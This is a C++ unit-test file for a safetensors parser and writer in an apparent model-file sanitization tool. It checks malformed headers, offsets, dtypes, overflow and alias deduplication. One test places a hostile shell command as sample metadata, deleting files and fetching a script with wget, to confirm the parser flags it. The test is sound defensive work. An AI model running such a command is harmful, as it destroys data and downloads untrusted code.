#include <gtest/gtest.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "formats/parsed_model.hpp"
#include "formats/safetensors_writer.hpp"
#include "io/atomic_output.hpp"

using namespace modelcdr;

namespace {

std::vector<uint8_t> make_file(std::string header, std::vector<uint8_t> data = {}) {
  while (header.size() % 8) header += ' ';
  std::vector<uint8_t> out(8);
  uint64_t n = header.size();
  for (int i = 0; i < 8; ++i) out[i] = static_cast<uint8_t>(n >> (8 * i));
  out.insert(out.end(), header.begin(), header.end());
  out.insert(out.end(), data.begin(), data.end());
  return out;
}

Result<formats::ParsedModel> read(const std::vector<uint8_t>& f) { return formats::read_safetensors(f, {}); }

const std::string kA = R"("a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]})";

}  // namespace

TEST(Safetensors, ReadsValidFile) {
  auto r = read(make_file("{\"__metadata__\":{\"format\":\"pt\"}," + kA + "}", std::vector<uint8_t>(8, 1)));
  ASSERT_TRUE(r.ok()) << r.error().describe();
  EXPECT_EQ(r->model.tensors.size(), 1u);
  EXPECT_EQ(r->model.tensors[0].shape, (std::vector<int64_t>{2}));
  ASSERT_EQ(r->model.file_metadata.size(), 1u);
  EXPECT_EQ(r->model.file_metadata[0].second, "pt");
}

TEST(Safetensors, EmptyHeaderAccepted) { EXPECT_TRUE(read(make_file("{}")).ok()); }

TEST(Safetensors, RejectsDuplicateKeys) {
  auto r = read(make_file("{" + kA + "," + kA + "}", std::vector<uint8_t>(8)));
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().rule, Rule::safetensors_duplicate_key);
  auto m = read(make_file(R"({"__metadata__":{"x":"1","x":"2"}})"));
  ASSERT_FALSE(m.ok());
  EXPECT_EQ(m.error().rule, Rule::safetensors_duplicate_key);
}

TEST(Safetensors, RejectsStructuralLies) {
  std::vector<uint8_t> d8(8);
  EXPECT_EQ(read(make_file(R"({"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}})", d8)).error().rule,
            Rule::safetensors_bad_offsets);
  EXPECT_EQ(read(make_file(R"({"a":{"dtype":"f32","shape":[2],"data_offsets":[0,8]}})", d8)).error().rule,
            Rule::safetensors_bad_dtype);
  EXPECT_EQ(read(make_file("{" + kA + "}", std::vector<uint8_t>(9))).error().rule, Rule::safetensors_trailing_data);
  EXPECT_EQ(read(make_file("{" + kA + "}", std::vector<uint8_t>(4))).error().rule, Rule::safetensors_truncated);
  EXPECT_EQ(read(make_file(R"({"__metadata__":{"x":1}})")).error().rule, Rule::safetensors_bad_metadata);
  EXPECT_FALSE(read(make_file(R"({"a":{"dtype":"F32","shape":[2.0],"data_offsets":[0,8]}})", d8)).ok());
  EXPECT_FALSE(read(make_file(
                        R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}})",
                        std::vector<uint8_t>(4)))
                   .ok());
  // header length past the end of the file
  std::vector<uint8_t> f = make_file("{}");
  f[0] = 0xff;
  EXPECT_FALSE(read(f).ok());
  // shape overflow
  EXPECT_FALSE(read(make_file(R"({"a":{"dtype":"F64","shape":[4294967296,4294967296],"data_offsets":[0,8]}})", d8)).ok());
}

TEST(Safetensors, ShellMetadataReported) {
  auto r = read(make_file(R"({"__metadata__":{"setup":"rm -rf /tmp/x && wget http://a/b.sh","ok":"v1"}})"));
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->model.file_metadata.size(), 1u);
  EXPECT_EQ(r->model.file_metadata[0].first, "ok");
  bool found = false;
  for (const auto& f : r->findings) found |= f.rule == Rule::safetensors_metadata_shell;
  EXPECT_TRUE(found);
}

TEST(Safetensors, WriterRoundTripsAndDeduplicatesTiedViews) {
  // Model: {"w": t0, "tied": t0-view, "tr": transposed view} over one 2x3 float storage.
  model::Model m;
  std::vector<uint8_t> payload(24);
  for (size_t i = 0; i < 6; ++i) {
    float v = static_cast<float>(i);
    std::memcpy(payload.data() + 4 * i, &v, 4);
  }
  model::Storage s;
  s.set_owned(payload);
  m.storages.push_back(std::move(s));
  model::Tensor t;
  t.shape = {2, 3};
  t.stride = {3, 1};
  m.tensors.push_back(t);
  t.shape = {3, 2};
  t.stride = {1, 3};
  m.tensors.push_back(t);
  auto str = [&](const char* k) {
    model::Value v;
    v.kind = model::ValueKind::string;
    v.text = k;
    return m.add(v);
  };
  auto ten = [&](model::TensorId id) {
    model::Value v;
    v.kind = model::ValueKind::tensor;
    v.tensor = id;
    return m.add(v);
  };
  model::Value root;
  root.kind = model::ValueKind::dict;
  root.entries = {{str("w"), ten(0)}, {str("tied"), ten(0)}, {str("tr"), ten(1)}};
  m.root = m.add(root);

  auto path = (std::filesystem::temp_directory_path() / "mcdr_st_test.safetensors").string();
  Findings findings;
  {
    auto out = io::AtomicOutput::create(path);
    ASSERT_TRUE(out.ok());
    ASSERT_TRUE(formats::write_safetensors(m, *out, findings).ok());
    ASSERT_TRUE(out->commit().ok());
  }
  std::ifstream in(path, std::ios::binary);
  std::vector<uint8_t> bytes((std::istreambuf_iterator<char>(in)), {});
  std::filesystem::remove(path);
  auto r = read(bytes);
  ASSERT_TRUE(r.ok()) << r.error().describe();
  ASSERT_EQ(r->model.tensors.size(), 2u);  // "tied" is an alias, not a copy
  bool aliases = false;
  for (auto& [k, v] : r->model.file_metadata) aliases |= k == "modelcdr.aliases" && v == R"({"tied":"w"})";
  EXPECT_TRUE(aliases);
  // "tr" was gathered in C order: [[0,3],[1,4],[2,5]]
  for (const auto& st : r->model.storages) {
    if (st.source != "tr") continue;
    float v[6];
    std::memcpy(v, st.bytes.data(), 24);
    EXPECT_EQ(v[0], 0.f);
    EXPECT_EQ(v[1], 3.f);
    EXPECT_EQ(v[2], 1.f);
    EXPECT_EQ(v[5], 5.f);
  }
}
